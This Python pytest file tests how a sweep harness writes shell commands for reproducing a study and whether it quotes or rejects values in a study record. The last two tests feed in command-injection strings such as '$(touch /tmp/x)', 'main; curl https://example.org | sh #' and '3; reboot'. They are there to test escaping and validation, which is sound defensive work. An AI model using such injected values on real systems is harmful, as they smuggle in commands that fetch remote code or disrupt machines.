"""Say how a study comes about again."""

import dataclasses
import json
import shlex
from pathlib import Path

import pytest

from harness.core.errors import StorageError
from harness.core.outcome import Reason
from harness.reporting.lineage import name_space, repeat_commands
from harness.reporting.report_data import ReportData, read_report
from harness.space.space import SearchSpace
from tests.reporting.studies import PROTOCOL, Clock, add_training, confirmation, make_study

COMMIT = "1234567890" * 4


def commands(data: ReportData, commit: str | None = None, **changes: object) -> list[str]:
    record = dataclasses.replace(data.record, commit=commit)
    return repeat_commands(record, space="default", trials=5, **changes)


def test_the_commit_is_checked_out_first_where_it_says_all(data: ReportData):
    assert commands(data, COMMIT)[0] == f"git checkout {COMMIT}"
    # Of changed files a commit knows nothing, and this version's commit is not the study's.
    for other in (f"{COMMIT}-dirty", None):
        assert commands(data, other)[0].startswith("gansweep sweep")


def test_the_baselines_get_the_time_they_were_given(tmp_path: Path):
    folder = make_study(tmp_path / "s")
    preset = folder / "baselines" / "mlp_cgan"
    add_training(preset, [8.0], Reason.FINISHED, final=8.1)
    assert read_report(folder).lineage.commands[0].endswith("--trials 0 --baselines")
    add_training(preset, [8.0], Reason.FINISHED, final=8.1, clock=Clock(allowed=45.0))
    sweep = read_report(folder).lineage.commands[0]
    assert sweep.endswith("--trials 0 --baselines --baseline-seconds 45")


def test_a_space_of_the_package_is_named_and_any_other_one_is_a_file(tmp_path: Path):
    shipped = SearchSpace.load("smoke")
    assert name_space(shipped, tmp_path) == "smoke"
    other = shipped.model_copy(update={"deterministic": True})
    assert name_space(other, Path("studies/x")) == "studies/x/search_space.yaml"
    assert name_space(other, tmp_path) == ".../search_space.yaml"  # a path of this machine


def test_leaders_are_trained_again_as_they_were(data: ReportData):
    found = confirmation()
    again = commands(data, confirmation=found)[1]
    assert again == "gansweep confirm --study small-again --top 2 --seeds 3"
    seen = dataclasses.replace(PROTOCOL, extractor="inception")
    other = dataclasses.replace(found, protocol=seen)
    assert commands(data, confirmation=other)[1].endswith("--extractor inception")


@pytest.mark.parametrize(
    ("formats", "end"),
    [((), "--study small-again"), (("keras", "onnx"), "--formats keras,onnx")],
)
def test_the_bundle_is_made_in_its_formats(data: ReportData, formats: tuple[str, ...], end: str):
    assert commands(data, formats=formats)[-1].endswith(end)


def test_what_a_study_says_is_one_word_to_a_shell(data: ReportData):
    foreign = "$(touch /tmp/x); 'a' \x1b[2J"
    seen = dataclasses.replace(PROTOCOL, extractor=foreign)
    seen = dataclasses.replace(confirmation(), protocol=seen)
    lines = repeat_commands(
        data.record, space=foreign, trials=5, confirmation=seen, formats=(foreign,)
    )
    shown = foreign.replace("\x1b", r"\x1b")
    assert [shlex.split(line).count(shown) for line in lines] == [1, 1, 1]
    assert all(line.isprintable() for line in lines)


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("commit", "main; curl https://example.org | sh #"),
        ("commit", ["a" * 40]),
        ("seed", "3; reboot"),
        ("seed", -1),
        ("seed", float("nan")),
        ("name", "a; reboot"),
        ("name", "\x1b[2J"),
        ("class_names", [["a"]]),
        ("class_names", ["a"] * 1001),
        ("protocol", {"metric": "fid"}),
        ("extractor", None),
    ],
)
def test_a_record_of_odd_values_makes_no_report(tmp_path: Path, field: str, value: object):
    folder = make_study(tmp_path / "s")
    record = json.loads((folder / "study.json").read_text())
    (folder / "study.json").write_text(json.dumps(record | {field: value}))
    with pytest.raises(StorageError, match=r"study\.json: expected the record of a study"):
        read_report(folder)
